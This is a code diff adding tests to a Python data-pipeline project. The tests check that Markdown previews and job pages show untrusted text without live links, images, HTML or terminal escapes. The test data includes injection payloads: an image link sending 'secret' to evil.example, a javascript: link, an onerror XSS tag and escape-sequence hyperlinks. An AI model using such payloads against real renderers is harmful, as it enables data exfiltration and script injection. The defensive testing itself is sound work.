@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import dagster as dg
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from markdown_it import MarkdownIt
 
-from batch_pipeline.model import PartitionCounts
-from batch_pipeline.orchestration import checks, metadata
+from batch_pipeline.model import PartitionCounts, PartitionSummary
+from batch_pipeline.orchestration import checks, describing, metadata, progress
+from batch_pipeline.policy.lifecycle import Step
 from batch_pipeline_tests.orchestration.location import Location, location
 from batch_pipeline_tests.world import DAYS, World, rows
 
@@ -107,3 +113,60 @@ def test_failures_are_listed_by_kind() -> None:
         "| expired | 1 |",
         "| refused | 2 |",
     ]
+
+
+HOSTILE = (
+    "![x](http://evil.example/?q=secret)",
+    "[a](javascript:alert(1))",
+    "<img src=x onerror=alert(1)>",
+    "http://auto.example www.auto.example",
+    "\x1b]8;;http://evil.example\x1b\\x",
+    "a|b\n\n# Title `code` ```",
+)
+
+
+def acts(text: str) -> set[str]:
+    """The kinds of everything in a Markdown text that is more than text, tables and fences."""
+    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    kinds = {child.type for token in reader.parse(text) for child in token.children or []}
+    kinds |= {token.type for token in reader.parse(text)}
+    return kinds & {
+        "link_open",
+        "image",
+        "html_inline",
+        "html_block",
+        "code_inline",
+        "heading_open",
+    }
+
+
+def test_an_answer_in_the_preview_is_text_and_no_link_or_picture(tmp_path: Path) -> None:
+    path = tmp_path / "results.parquet"
+    texts = list(HOSTILE)
+    columns = {"id": texts, "status": ["succeeded"] * 6, "failure": [None] * 6, "text": texts}
+    pq.write_table(pa.table(columns), path)
+    shown = metadata.preview(path, ["id"])
+    assert not acts(shown)
+    assert "\x1b" not in shown
+    assert shown.count("| succeeded |") >= len(HOSTILE) - 1  # the page shows a thousand characters
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_what_a_job_file_says_is_text_on_the_pages_too(world: World, hostile: str) -> None:
+    job = world.job(
+        description=hostile,
+        request={"prompt": f"{hostile}\n```\n![x](http://evil.example) {{{{ body }}}}"},
+        targets=[{"provider": "openai", "model": hostile.replace("\n", " ")}],
+    )
+    for step in ("dataset", "requests"):
+        page = describing.described(job, step)
+        assert "\x1b" not in page
+        assert not acts(page)
+
+
+def test_a_tick_says_what_a_provider_said_on_one_line() -> None:
+    counts = PartitionCounts("moods", ONE, requests=1, held="[/]\x1b[31m\nred")
+    steps = {ONE: (Step.BLOCKED, PartitionSummary(counts))}
+    assert progress.standing(steps) == "1 blocked. Blocked: [/]\\x1b[31m\\nred"
+    held = metadata.of_progress(*steps[ONE])["held"].value
+    assert "\x1b" not in str(held)
